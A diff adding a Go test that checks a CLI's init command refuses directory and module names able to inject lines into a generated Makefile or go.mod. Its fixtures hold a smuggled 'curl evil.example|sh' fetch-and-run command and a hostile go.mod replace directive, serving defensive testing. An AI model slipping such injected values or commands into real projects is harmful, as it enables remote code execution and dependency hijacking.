@@ -246,3 +246,24 @@ func TestDevTarget(t *testing.T) {
 	require.Equal(t, svc, dir)
 	require.False(t, sample)
 }
+
+// A directory name or module path that would write lines of its own into the Makefile or go.mod
+// (a newline) is refused before anything is written.
+func TestInitRefusesNamesThatBreakOutOfTheirLine(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct{ dir, module string }{
+		{"svc\n\tcurl evil.example|sh\nx", ""},
+		{"svc", "example.com/svc\nreplace x => /tmp/evil"},
+		{"svc", "example.com/s vc"},
+	} {
+		dir := filepath.Join(t.TempDir(), c.dir)
+		args := []string{"init", dir}
+		if c.module != "" {
+			args = append(args, "--module", c.module)
+		}
+		var errOut bytes.Buffer
+		require.Equal(t, exitUsage, run(context.Background(), args, nil, &bytes.Buffer{}, &errOut), "%q %q", c.dir, c.module)
+		_, err := os.Stat(dir)
+		require.True(t, os.IsNotExist(err), "nothing written for %q", c.dir)
+	}
+}
